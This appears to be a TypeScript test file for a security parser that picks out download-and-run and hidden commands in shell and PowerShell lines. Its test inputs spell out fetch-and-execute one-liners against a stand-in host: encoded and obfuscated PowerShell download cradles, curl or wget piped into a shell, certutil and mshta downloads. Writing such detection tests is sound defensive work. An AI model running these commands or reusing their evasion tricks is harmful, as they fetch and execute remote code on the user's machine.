import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import { type Command, commandsOf, commandsOfWords } from '../../src/indicators/index.ts'

const script = "IEX (New-Object Net.WebClient).DownloadString('http://example.invalid/a.ps1')"
const encoded = Buffer.from(script, 'utf16le').toString('base64')

function programs(line: string): readonly string[] {
  return commandsOf(line).map((command) => command.program)
}

function one(line: string, program: string): Command {
  const found = commandsOf(line).find((command) => command.program === program)
  assert.ok(found, `${program} in ${line}`)
  return found
}

test('a pipe tells which command is fed', () => {
  const bash = one('curl -s https://example.invalid/x | bash', 'bash')
  assert.ok(bash.isFed)
  assert.deepEqual(bash.runs, ['-'])
  assert.deepEqual(one('curl -s https://example.invalid/x | bash', 'curl').downloads, ['https://example.invalid/x'])
  assert.ok(!one('ls || bash x.sh', 'bash').isFed)
})

test('an encoded command of PowerShell is decoded and read', () => {
  for (const option of ['-EncodedCommand', '-enc', '-e', '-ec', '/enc', '\u2013enc']) {
    const found = one(`powershell -NoP -W Hidden ${option} ${encoded}`, 'powershell')
    assert.ok(found.isHidden && found.isEncoded, option)
    assert.deepEqual(found.downloads, ['http://example.invalid/a.ps1'])
    assert.deepEqual(found.runs, ['-'])
    assert.equal(found.text, script)
    assert.deepEqual(found.trail, ['powershell -EncodedCommand'])
  }
  assert.ok(!one('powershell -ExecutionPolicy Bypass -File a.ps1', 'powershell').isEncoded)
})

test('escapes, quotes and added texts hide nothing', () => {
  assert.ok(one('p^ower^shell -w 1 -c "I`E`X (iwr https://example.invalid/z)"', 'powershell').isHidden)
  assert.deepEqual(programs('cu""rl https://example.invalid'), ['curl'])
  const joined = one(
    `powershell -c "&('I'+'EX') (('Net.Web'+'Client').'Download'+'String'('https://example.invalid/'))"`,
    'powershell',
  )
  assert.deepEqual(joined.downloads, ['https://example.invalid/'])
  const inner = Buffer.from('Start-Process a.exe').toString('base64')
  assert.ok(
    commandsOf(`powershell -c "[Convert]::FromBase64String('${inner}')"`).some(
      (command) => command.program === 'start-process',
    ),
  )
})

test('programs that run others are looked through', () => {
  assert.deepEqual(programs('sudo -u root sh -c "wget -qO- example.invalid/s.sh | sh"'), ['sh', 'wget', 'sh'])
  assert.deepEqual(one('cmd /c start /b "" C:\\Users\\x\\a.exe', 'a').runs, ['C:\\Users\\x\\a.exe'])
  assert.ok(one('cmd.exe /c start /b a.exe', 'a').isHidden)
  assert.ok(one('nohup ./run.sh >/dev/null 2>&1 &', 'run.sh').isHidden)
  assert.deepEqual(programs('A=1 B=2 env C=3 timeout 5 id; (uname -a) && $(whoami)'), ['id', 'uname', 'whoami'])
})

test('Python within a command is handed back', () => {
  assert.equal(one(`python3 -c "import os; os.system('id')"`, 'python3').python, "import os; os.system('id')")
  assert.equal(one('python -m pip install a b', 'python').python, null)
})

test('package managers are asked for names', () => {
  assert.deepEqual(one('python -m pip install a b -q', 'python').installs, ['a', 'b'])
  assert.deepEqual(one('pip3.11 install a', 'pip3.11').installs, ['a'])
  assert.deepEqual(one('npm i left', 'npm').installs, ['left'])
  assert.deepEqual(one('pip list', 'pip').installs, [])
})

test('programs of the system that fetch or run are known', () => {
  assert.deepEqual(one('certutil -urlcache -f https://example.invalid/a a', 'certutil').downloads, [
    'https://example.invalid/a',
  ])
  assert.deepEqual(one('certutil -hashfile a', 'certutil').downloads, [])
  assert.deepEqual(one('mshta https://example.invalid/a.hta', 'mshta').runs, ['https://example.invalid/a.hta'])
  assert.deepEqual(one('curl example.invalid/a.sh', 'curl').downloads, ['example.invalid/a.sh'])
})

test('a list of words is a command', () => {
  const words = ['powershell.exe', '-enc', encoded]
  assert.deepEqual(commandsOfWords(words)[0]?.downloads, ['http://example.invalid/a.ps1'])
  assert.deepEqual(
    commandsOfWords(['bash', '-c', 'curl https://example.invalid/x | sh']).map((command) => command.program),
    ['bash', 'curl', 'sh'],
  )
})

test('any line ends, soon and without an error', () => {
  fc.assert(
    fc.property(fc.string({ unit: 'binary', maxLength: 300 }), (noise) => {
      assert.ok(commandsOf(`powershell -c "${noise}" | sh -c '${noise}' ${noise}`).length <= 300)
    }),
  )
  for (const unit of ['sh -c "', 'cmd /c ', '(', '"', '`', 'sudo ', '&', "'", '> ']) {
    assert.ok(commandsOf(unit.repeat(50_000)).length <= 300, unit)
  }
})
